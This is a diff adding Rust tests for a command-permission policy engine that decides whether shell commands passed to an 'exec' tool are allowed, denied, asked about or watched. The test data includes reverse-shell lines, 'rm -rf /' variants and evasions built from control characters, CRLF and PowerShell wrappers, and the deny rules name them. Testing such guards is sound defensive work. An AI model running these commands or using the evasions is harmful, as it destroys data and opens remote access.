@@ -670,3 +670,105 @@ fn who_is_told_is_what_the_first_file_says_and_never_what_a_project_does() {
     assert_eq!(decide(&restricted, "ls").action, Ask);
     assert_eq!((told(&restricted), restricted.notify()), (None, None));
 }
+
+/// Checks what a policy for the tool `exec`, as the other server has them, says of each command.
+#[track_caller]
+fn check_exec(default: &str, rules: &str, cases: &[(&str, Action)]) {
+    let source = format!(
+        "default_action: {default}\npolicies:\n- name: p\n  match: {{tool: exec}}\n  rules:\n{rules}"
+    );
+    let policies = PolicySet::parse(&source, "p.yaml").unwrap_or_else(|error| panic!("{error}"));
+    for (command, action) in cases {
+        let decision = decide(&policies, command);
+        assert_eq!(decision.action, *action, "{command}\n{decision:#?}");
+    }
+}
+
+#[test]
+fn to_ask_is_to_permit_what_a_person_permits_where_the_default_denies() {
+    let rules = "  - {action: ask, when: {command_matches: ['git push*', 'make **', 'make']}}\n";
+    let cases = [
+        ("git push -f", Ask),
+        ("cd x && git push", Ask),
+        ("git push > log 2>&1", Ask),
+        ("A=1 git push", Ask),
+        ("GIT_TRACE=1 git push", Ask),
+        ("timeout 5 git push", Ask),
+        ("bash -c 'git push'", Ask),
+        ("echo $(git push)", Ask),
+        ("(git push)", Ask),
+        ("if true; then git push; fi", Ask),
+        ("sudo git push", Deny),
+        ("ssh h 'git push'", Deny),
+        ("echo x | xargs make all", Deny),
+        ("find . -exec make {} ';'", Deny),
+        ("f() { git push; }; f", Deny),
+        ("echo 'git push' | sh", Deny),
+        ("GIT PUSH", Deny),
+        ("MAKE all", Deny),
+    ];
+    check_exec("deny", rules, &cases);
+    // It is the default that is not to be had so; what is permitted else is asked about.
+    let all = cases.map(|(command, _)| (command, Ask));
+    check_exec("allow", rules, &all);
+    check_exec("deny", &format!("{rules}  - {{action: allow}}\n"), &all);
+}
+
+#[test]
+fn to_mark_permits_nothing_where_the_default_allows() {
+    let rules = "  - {action: watch, when: {command_matches: ['curl *', 'rsync *']}}\n  \
+                 - {action: watch, when: {command_env_assignments: ['NODE_*']}}\n  \
+                 - {action: deny, when: {command_matches: 'sh -x*'}}\n";
+    let cases = [
+        ("curl x", Watch),
+        ("env -i PATH=/bin curl x", Watch),
+        ("rsync -e 'ssh -i k' a h:b", Watch),
+        ("sudo curl x", Watch),
+        ("NODE_OPTIONS=--x jest", Watch),
+        // What is not run by it stays what it is, and so does what comes after the mark.
+        ("cd x && curl x", Allow),
+        ("curl x | cat", Allow),
+        ("env -i curl x; sh -x y", Deny),
+        ("sudo sh -x 'curl x'", Deny),
+    ];
+    check_exec("allow", rules, &cases);
+    // As a permission it is one for all that is run.
+    let strict = [("curl x", Watch), ("sudo curl x", Deny), ("NODE_OPTIONS=--x jest", Deny)];
+    check_exec("deny", rules, &strict);
+}
+
+#[test]
+fn what_the_other_server_sees_in_a_line_is_seen() {
+    let rules = "  - action: deny\n    when:\n      command_matches: ['rm -rf /', 'rm -rf ..', 'bash -i >*', 'curl *', 'dd *']\n      \
+                 command_not_matches: ['curl localhost*']\n";
+    check_exec(
+        "allow",
+        rules,
+        &[
+            ("rm -rf $PWD/..", Deny),
+            ("rm -rf \"${PWD}/..\"", Deny),
+            ("rm -rf ~+/..", Deny),
+            ("rm -rf $PWDX/..", Allow),
+            ("rm -rf $PWD/x", Allow),
+            ("find / -size +1M -exec rm -rf {} +", Deny),
+            ("find / -size +1M -exec rm -R --force {} ';'", Deny),
+            ("find / -size +1M -exec ls {} ';'", Allow),
+            ("find . -size +1M -exec rm -rf {} +", Allow),
+            ("nohup bash -i >& /dev/tcp/h/1 0>&1 &", Deny),
+            ("command bash -i > /dev/tcp/h/1", Deny),
+            ("r\u{1}m -rf /", Deny),
+            ("\u{1b}[31mrm -rf /\u{1b}[0m", Deny),
+            ("ls\r\nrm -rf /\r\n", Deny),
+            ("ls\r\n", Allow),
+            ("pwsh -Command 'curl x'", Deny),
+            ("powershell -NoProfile -c 'dd if=x'", Deny),
+            ("pwsh -Version", Allow),
+            ("cmd /c curl x", Deny),
+            // A program from anywhere is not the one that is excused.
+            ("curl localhost/x", Allow),
+            ("/usr/bin/curl localhost/x", Allow),
+            ("~/.local/bin/curl localhost/x", Allow),
+            ("./curl localhost/x", Deny),
+        ],
+    );
+}
